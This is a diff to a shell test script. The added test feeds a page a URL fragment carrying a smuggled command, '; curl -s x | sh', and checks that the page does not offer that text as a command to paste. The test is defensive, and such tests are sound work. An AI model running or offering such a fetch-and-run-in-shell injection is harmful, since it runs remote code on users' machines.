@@ -336,6 +336,12 @@ JS
         || fail "challenge #schedule=$key: no '$line' in: $(tr '\n' ' ' <<< "$replayed")"
     done
   done
+  # Nor is an address's text offered as a command to paste unless it has a schedule's shape.
+  replayed=$(layout "file://$page#schedule=%3B%20curl%20-s%20x%20%7C%20sh" mouse \
+    <<< "(function () { return document.body.textContent; })()" 2>&1)
+  if grep -q 'curl' <<< "$replayed" || ! grep -q 'That address holds no schedule' <<< "$replayed"; then
+    fail "challenge #schedule=; curl …: the page offers the address's text as a command"
+  fi
 }
 check_challenge
 echo "== a prediction: tick boxes, press Reveal, read the verdict"
